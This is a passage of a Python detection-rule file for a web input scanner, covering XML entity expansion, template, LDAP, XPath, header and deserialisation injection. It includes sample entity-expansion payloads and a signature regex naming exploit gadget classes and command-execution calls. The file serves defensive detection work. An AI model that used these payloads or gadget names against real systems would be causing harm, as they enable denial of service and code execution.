        r"<!ENTITY\s+[\w.-]+\s+[\"'](?:&[\w.-]+;){2,}[\"']"
    ),
    severity=_S,
    score=0.75,
    message="XML entities defined as repeats of another (entity expansion)",
    examples=(
        '<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>',
        '<!ENTITY a1 "&a0;&a0;"><!ENTITY a2 "&a1;&a1;">',
    ),
    counterexamples=(
        '<!ENTITY copy "&#169;">',
        '<!ENTITY company "Acme &amp; Sons">',
        '<!ENTITY signature "&name; &title; &company;"><!ENTITY footer "&signature; &address;">',
    ),
)

RULES: tuple[Rule, ...] = (
    SSTI_ARITHMETIC_PROBE,
    SSTI_OBJECT_WALK,
    SSTI_ENGINE_GADGET,
    SSTI_NESTED_LOOKUP,
    SSTI_INCLUDE,
    LDAP_FILTER_BREAK,
    LDAP_FILTER_OPENED,
    LDAP_NULL_TERMINATED,
    XPATH_NODE_PROBE,
    HEADER_CRLF,
    OBJECT_SERIALISED,
    OBJECT_PROTOTYPE_POLLUTION,
    XXE_EXTERNAL_DTD,
    XXE_EXTERNAL_DTD_ALONE,
    XXE_ENTITY_EXPANSION,
)

# What every match of these rules contains: a text without any of it skips their scan. A test
# holds each rule's examples to it, so a new rule cannot be skipped unseen.
CUE = (
    r"[{}$#@|*!]|(?i:%0[0ad]|%25|%u000|%5c|%e5%98|%c4%8)|\x00|[\x{560A}\x{560D}]|\\r\\n|__"
    r"|<[%!]|(?i)<esi"
    r"|\.class\b|forName|java\.|ognl|rO0AB|AAEAAAD|(?i)aced0005|(?i)\bac ed 00 05|mainModule"
    r"|child_process|constructor|(?i)\bdoc\s*\(|(?i)child::|\)\s*\(|'\s*\)*\s*(?i:or|and)\s"
    r"|'\s*\)?\s*\]|\b[OC]:\+?\d|\n(?:system|popen|check_output|call|exec|eval|getattr)\n"
    r"|JdbcRowSetImpl|ObjectDataProvider|ExpandedWrapper|XamlReader|TypeConfuseDelegate"
    r"|TextFormattingRunProperties|(?i)(?:name|string-length|substring)\s*\(\s*name"
)

FAMILY_MESSAGES = {
    SSTI: "server-side template, expression or include injection",
    LDAP: "LDAP filter injection",
    XPATH: "XPath injection",
    HEADER_INJECTION: "HTTP header injection (CRLF)",
    OBJECT_INJECTION: "object injection: a serialised object or a prototype-polluting key",
    XXE: "XML external entity or entity expansion (XXE)",
}
